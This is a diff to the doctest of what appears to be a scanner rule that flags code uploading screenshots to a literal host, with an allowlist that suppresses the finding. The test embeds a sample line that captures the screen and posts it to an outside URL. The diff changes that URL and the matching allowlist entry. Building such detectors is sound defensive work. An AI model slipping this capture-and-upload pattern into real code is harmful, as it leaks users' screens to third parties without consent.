@@ -10,10 +10,10 @@ service the package names in its prose (a screenshot sent to the vision API the 
 documents is its job). A file that names no literal host is not judged here.
 
 >>> code = ("import pyautogui, requests\\nimg = pyautogui.screenshot()\\n"
-...         "requests.post('https://drop.example.net/u', files={'f': img})")
+...         "requests.post('https://up.snapshare.net/u', files={'f': img})")
 >>> [f.rule_id for f in capture_upload("scripts/a.py", code, set())]
 ['capture.upload']
->>> capture_upload("scripts/a.py", code, {"example"})
+>>> capture_upload("scripts/a.py", code, {"snapshare"})
 []
 """
 
